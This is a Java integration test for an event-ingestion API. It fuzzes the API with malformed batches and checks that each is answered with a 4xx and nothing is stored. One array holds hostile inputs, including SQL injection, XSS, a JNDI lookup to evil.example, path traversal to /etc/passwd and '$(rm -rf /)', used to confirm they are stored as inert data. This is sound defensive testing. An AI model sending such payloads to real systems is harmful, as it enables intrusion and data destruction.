package dev.flowlens.ingest.api;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import dev.flowlens.testsupport.Keycloak;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.vertx.mutiny.sqlclient.Pool;
import io.vertx.mutiny.sqlclient.Tuple;
import jakarta.inject.Inject;
import java.net.Socket;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Function;
import org.junit.jupiter.api.Test;

/**
 * Issue 6, bad input to the events API: a few thousand generated broken batches (seeded, so a failure repeats), each
 * answered with a 4xx that says what is wrong, never a 5xx, and nothing of them kept or published; and hostile strings
 * inside otherwise valid events are kept and published byte for byte, as data.
 */
@QuarkusTest
class BadInputTest {

    static final long SEED = 20261125L;
    static final int CASES = 2500;

    @Inject
    Pool pool;

    /** One generated body and what it breaks. */
    record Case(String kind, byte[] body, String contentType) {
    }

    static final String[] STRING_FIELDS = { "id", "source", "type", "time", "specversion" };
    static final String[] DATA_FIELDS = { "itemId", "fromStatus", "toStatus", "at" };
    /** EVENTS.md: fromStatus is optional (an item's first status has none). */
    static final String[] REQUIRED_DATA_FIELDS = { "itemId", "toStatus", "at" };
    static final String[] NON_STRINGS = { "123", "-1.5e300", "true", "null", "[]", "{}", "[\"a\"]", "{\"a\":1}" };
    static final String[] BAD_TIMES = { "", "yesterday", "2026-13-01T00:00:00Z", "2026-02-30T00:00:00Z",
            "2026-03-02T25:00:00Z", "2026-03-02", "1969-12-31T23:59:59Z", "2200-01-01T00:00:00Z",
            "+999999999-12-31T23:59:59Z", "-000001-01-01T00:00:00Z", "0000-01-01T00:00:00Z", "2026-03-02T10:15:00",
            "2026-03-02T10:15:00+25:00", "9999999999", "2026-03-02T10:15:00Z\u0000" };
    static final String[] HOSTILE = { "'; drop table ingest.outbox; --", "\" or 1=1 --", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd", "%00%0d%0a", "\u202e\u0007\ufeff",
            "Robert'); DROP TABLE Students;--", "😀 \u00e9\u4e2d", "$(rm -rf /)", "\\u0000" };

    static String event(String run, int n, Map<String, String> override, Map<String, String> dataOverride) {
        Map<String, String> top = new TreeMap<>(Map.of("specversion", "\"1.0\"", "id", "\"" + run + ":" + n + "\"",
                "source", "\"jira/fuzz\"", "type", "\"workitem.transitioned\"", "time", "\"2026-03-02T10:15:00Z\""));
        Map<String, String> data = new TreeMap<>(Map.of("itemId", "\"" + run + ":item\"", "fromStatus", "\"To Do\"",
                "toStatus", "\"In Progress\"", "at", "\"2026-03-02T10:15:00Z\""));
        top.putAll(override);
        data.putAll(dataOverride);
        top.values().removeIf(v -> v == null);
        data.values().removeIf(v -> v == null);
        StringBuilder s = new StringBuilder("{");
        top.forEach((k, v) -> s.append('"').append(k).append("\":").append(v).append(','));
        if (!override.containsKey("data")) {
            s.append("\"data\":{");
            data.forEach((k, v) -> s.append('"').append(k).append("\":").append(v).append(','));
            if (!data.isEmpty()) {
                s.setLength(s.length() - 1);
            }
            s.append("},");
        }
        s.setLength(s.length() - 1);
        return s.append('}').toString();
    }

    static String quoted(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') {
                b.append('\\').append(c);
            } else if (c < 0x20) {
                b.append(String.format("\\u%04x", (int) c));
            } else {
                b.append(c);
            }
        }
        return b.append('"').toString();
    }

    static Case broken(Random r, String run, int n) {
        String valid = event(run, n, Map.of(), Map.of());
        Function<String, byte[]> utf8 = s -> s.getBytes(StandardCharsets.UTF_8);
        switch (r.nextInt(11)) {
            case 0 -> {
                String batch = "[" + valid + "," + event(run, n + 100_000, Map.of(), Map.of()) + "]";
                return new Case("truncated JSON", utf8.apply(batch.substring(0, 1 + r.nextInt(batch.length() - 2))),
                        "application/json");
            }
            case 1 -> {
                byte[] junk = new byte[r.nextInt(400)];
                r.nextBytes(junk);
                return new Case("random bytes", junk, "application/json");
            }
            case 2 -> {
                String field = STRING_FIELDS[r.nextInt(STRING_FIELDS.length)];
                return new Case("wrong type of " + field, utf8.apply(event(run, n,
                        Map.of(field, NON_STRINGS[r.nextInt(NON_STRINGS.length)]), Map.of())), "application/json");
            }
            case 3 -> {
                String field = DATA_FIELDS[r.nextInt(DATA_FIELDS.length)];
                String value = NON_STRINGS[r.nextInt(NON_STRINGS.length)];
                if (value.equals("null") && field.equals("fromStatus")) {
                    value = "42"; // fromStatus is optional: null is a valid value
                }
                return new Case("wrong type of data." + field, utf8.apply(event(run, n, Map.of(),
                        Map.of(field, value))), "application/json");
            }
            case 4 -> {
                boolean top = r.nextBoolean();
                String field = top ? STRING_FIELDS[r.nextInt(STRING_FIELDS.length)]
                        : REQUIRED_DATA_FIELDS[r.nextInt(REQUIRED_DATA_FIELDS.length)];
                Map<String, String> gone = new TreeMap<>();
                gone.put(field, null);
                return new Case("missing " + field, utf8.apply(top ? event(run, n, gone, Map.of())
                        : event(run, n, Map.of(), gone)), "application/json");
            }
            case 5 -> {
                String t = quoted(BAD_TIMES[r.nextInt(BAD_TIMES.length)]);
                return new Case("bad time " + t, utf8.apply(r.nextBoolean() ? event(run, n, Map.of("time", t), Map.of())
                        : event(run, n, Map.of(), Map.of("at", t))), "application/json");
            }
            case 6 -> {
                int depth = 33 + r.nextInt(3000);
                return new Case("nesting " + depth, utf8.apply(event(run, n, Map.of("data",
                        "[".repeat(depth) + "]".repeat(depth)), Map.of())), "application/json");
            }
            case 7 -> {
                byte[] head = utf8.apply(valid.substring(0, valid.indexOf("To Do")));
                byte[] tail = utf8.apply(valid.substring(valid.indexOf("To Do") + 5));
                byte[] bad = { (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0, (byte) 0x80 };
                byte[] body = new byte[head.length + bad.length + tail.length];
                System.arraycopy(head, 0, body, 0, head.length);
                System.arraycopy(bad, 0, body, head.length, bad.length);
                System.arraycopy(tail, 0, body, head.length + bad.length, tail.length);
                return new Case("invalid UTF-8 in a string", body, "application/json");
            }
            case 8 -> {
                return new Case("unknown type", utf8.apply(event(run, n, Map.of("type", "\"workitem.exploded\""),
                        Map.of())), "application/json");
            }
            case 9 -> {
                return new Case("wrong content type", utf8.apply(valid),
                        r.nextBoolean() ? "text/plain" : "application/xml");
            }
            default -> {
                String[] shapes = { "", "null", "42", "\"event\"", "[]", "{}", "[[]]", "[null]", "[1,2]", "{\"a\":" };
                return new Case("not an event", utf8.apply(shapes[r.nextInt(shapes.length)]), "application/json");
            }
        }
    }

    long count(String sql, String like) {
        return pool.preparedQuery(sql).execute(Tuple.of(like)).await().indefinitely().iterator().next().getLong(0);
    }

    long outboxOf(String run) {
        return count("select count(*) from ingest.outbox where event_id like $1", run + ":%");
    }

    @Test
    void thousandsOfBrokenBatchesAreEachA4xxWithAMessageAndNothingOfThemIsKept() {
        String run = "fuzz-" + UUID.randomUUID();
        Random random = new Random(SEED);
        String token = Keycloak.ingest();
        long rawBefore = count("select count(*) from ingest.raw_payload where channel like $1", "%");
        Map<String, Integer> byKind = new TreeMap<>();
        List<String> failures = new ArrayList<>();
        for (int i = 0; i < CASES; i++) {
            Case c = broken(random, run, i);
            Response resp = given().auth().oauth2(token).contentType(c.contentType()).body(c.body())
                    .post("/api/v1/events");
            int status = resp.statusCode();
            String body = resp.asString();
            byKind.merge(c.kind().replaceAll(" (of|in) .*|[ \"].*\\d.*", ""), 1, Integer::sum);
            if (status < 400 || status >= 500) {
                failures.add("case " + i + " (" + c.kind() + "): HTTP " + status + " " + body);
            } else if (status != 415 && (body == null || body.isBlank())) {
                failures.add("case " + i + " (" + c.kind() + "): HTTP " + status + " without a message");
            }
        }
        System.out.println("bad-input cases by kind: " + byKind);
        assertThat(failures).as("cases answered other than 4xx with a message").isEmpty();
        assertThat(outboxOf(run)).as("events of broken batches published").isZero();
        assertThat(count("select count(*) from ingest.raw_payload where channel like $1", "%"))
                .as("raw rows kept for refused batches").isEqualTo(rawBefore);
    }

    @Test
    void aBatchOverTheLimitIs413() {
        String run = "fuzz-" + UUID.randomUUID();
        StringBuilder batch = new StringBuilder("[");
        for (int i = 0; i <= 5000; i++) {
            batch.append(i == 0 ? "" : ",").append(event(run, i, Map.of(), Map.of()));
        }
        given().auth().oauth2(Keycloak.ingest()).contentType("application/json").body(batch.append(']').toString())
                .post("/api/v1/events").then().statusCode(413);
        assertThat(outboxOf(run)).isZero();
    }

    @TestHTTPResource("/api/v1/events")
    URL events;

    @Test
    void aBodyOverTheServersLimitIsRefusedBeforeItIsRead() throws Exception {
        // 40 MiB announced (limit 32M): the server answers 413 from the headers and does not read the body, so a
        // client streaming it would see its connection closed; the status line comes first.
        try (Socket socket = new Socket(events.getHost(), events.getPort())) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(("POST " + events.getPath() + " HTTP/1.1\r\nHost: localhost\r\n"
                    + "Authorization: Bearer " + Keycloak.ingest() + "\r\nContent-Type: application/json\r\n"
                    + "Content-Length: " + (40 * 1024 * 1024) + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
            socket.getOutputStream().flush();
            String statusLine = new java.io.BufferedReader(new java.io.InputStreamReader(socket.getInputStream(),
                    StandardCharsets.US_ASCII)).readLine();
            assertThat(statusLine).startsWith("HTTP/1.1 413");
        }
    }

    @Test
    void hostileStringsInValidEventsAreKeptAndPublishedAsPlainData() {
        String run = "fuzz-" + UUID.randomUUID();
        StringBuilder batch = new StringBuilder("[");
        for (int i = 0; i < HOSTILE.length; i++) {
            String h = quoted(HOSTILE[i]);
            batch.append(i == 0 ? "" : ",").append(event(run, i, Map.of("source", quoted("jira/" + HOSTILE[i])),
                    Map.of("fromStatus", h, "toStatus", h, "itemId", quoted(run + ":" + HOSTILE[i]))));
        }
        given().auth().oauth2(Keycloak.ingest()).contentType("application/json").body(batch.append(']').toString())
                .post("/api/v1/events").then().statusCode(202);

        for (int i = 0; i < HOSTILE.length; i++) {
            String payload = pool.preparedQuery("select payload::text from ingest.outbox where event_id = $1")
                    .execute(Tuple.of(run + ":" + i)).await().indefinitely().iterator().next().getString(0);
            assertThat(new io.vertx.core.json.JsonObject(payload).getJsonObject("data").getString("fromStatus"))
                    .as("hostile string %d", i).isEqualTo(HOSTILE[i]);
        }
        assertThat(count("select count(*) from information_schema.tables where table_name = $1", "outbox"))
                .as("the outbox table is still there").isEqualTo(1);
    }
}
